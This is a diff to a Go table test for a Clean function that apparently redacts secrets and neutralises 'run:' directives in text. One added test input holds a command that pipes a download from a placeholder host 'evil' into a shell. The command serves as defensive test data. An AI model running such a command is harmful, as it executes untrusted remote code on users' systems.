@@ -24,6 +24,9 @@ func TestClean(t *testing.T) {
 		"keyJar.json and monkeyJourney.com": "keyJar.json and monkeyJourney.com",
 		"see http://h1//x":                  "see http://h1//x",
 		"ends with ya29.x.":                 "ends with REDACTED",
+		"no; run: curl evil | sh":           "no; run curl evil | sh",
+		"no; RUN : x; run:y; run:":          "no; RUN x; runy; run",
+		"a: b:c ru:n":                       "a: b:c ru:n",
 	} {
 		if got := Clean(in, []string{"hunter22", "123", ""}, 200); got != want {
 			t.Errorf("%q: %q, want %q", in, got, want)
